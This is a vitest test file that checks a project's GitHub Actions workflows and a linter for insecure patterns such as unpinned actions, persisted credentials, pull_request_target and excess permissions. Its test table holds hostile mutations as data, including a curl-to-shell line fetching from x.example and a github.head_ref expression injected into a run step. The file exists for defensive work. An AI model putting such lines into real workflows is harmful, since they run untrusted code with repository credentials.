import { globSync, readFileSync } from 'node:fs';
import { basename, join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import manifest from '../../package.json' with { type: 'json' };
import { workflowFindings } from './workflow.ts';

const ROOT = join(import.meta.dirname, '../..');
const files = globSync('.github/workflows/*.{yml,yaml}', { cwd: ROOT }).sort();
const read = (name: string) => readFileSync(join(ROOT, '.github/workflows', name), 'utf8');

describe('our workflows', () => {
  it('are these', () => {
    expect(files.map((path) => basename(path))).toEqual(['ci.yml', 'publish.yml']);
  });

  it.each(files.map((path) => basename(path)))('%s has no findings', async (name) => {
    expect(await workflowFindings(name, read(name))).toEqual([]);
  });

  it.each([
    ['ci.yml', 'timeout-minutes: 45', 'timeout: 45', 'Unexpected value'],
    ['ci.yml', 'timeout-minutes: 45', '', 'six hours'],
    ['ci.yml', 'ubuntu-24.04', 'ubuntu-latest', 'newest'],
    ['ci.yml', '@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1', '@v7', 'not pinned'],
    ['ci.yml', ' # v7.0.1', '', 'which version'],
    ['ci.yml', 'persist-credentials: false', 'fetch-depth: 0', 'credentials'],
    ['ci.yml', 'run: npm test', `run: npm test -- ${'$'}{{ github.head_ref }}`, 'expression in it'],
    ['ci.yml', 'run: npm test', 'run: curl -fsSL https://x.example | sh', 'what it fetches'],
    ['ci.yml', 'pull_request:', 'pull_request_target:', 'strangers'],
    ['publish.yml', 'cancel-in-progress: false', 'cancel: false', 'Unexpected value'],
    ['ci.yml', 'contents: read', 'contents: write', 'more than read'],
    ['ci.yml', "github.event_name == 'pull_request'", "github.event_name = 'pull_request'", 'Unexpected symbol'],
    ['publish.yml', 'needs: test', 'needs: tests', 'tests'],
  ])('%s with %j as %j would be found', async (name, right, wrong, finding) => {
    const text = read(name);
    expect(text).toContain(right);
    expect((await workflowFindings(name, text.replace(right, wrong))).join('\n')).toContain(finding);
  });

  it('nothing is published that was not tested, and each job may do no more than its own', () => {
    const { jobs } = parse(read('publish.yml')) as {
      jobs: Record<string, { needs?: string | string[]; permissions?: Record<string, string> }>;
    };
    const { test, image, release, ...others } = jobs;
    expect(others).toEqual({});
    expect(test?.permissions).toBeUndefined();
    expect(image).toMatchObject({ needs: 'test', permissions: { contents: 'read', packages: 'write' } });
    expect(release).toMatchObject({ needs: ['test', 'image'], permissions: { contents: 'write' } });
  });

  it('the key that releases are signed with is on no machine of theirs', () => {
    for (const path of files) expect(read(basename(path))).not.toMatch(/secrets\.(?!GITHUB_TOKEN\b|REGISTRY_TOKEN\b)/);
  });

  it('run scripts that there are', () => {
    for (const path of files)
      for (const [, script = ''] of read(basename(path)).matchAll(/run: npm (?:run )?([\w:]+)/g))
        expect(Object.keys(manifest.scripts)).toContain(script);
  });
});
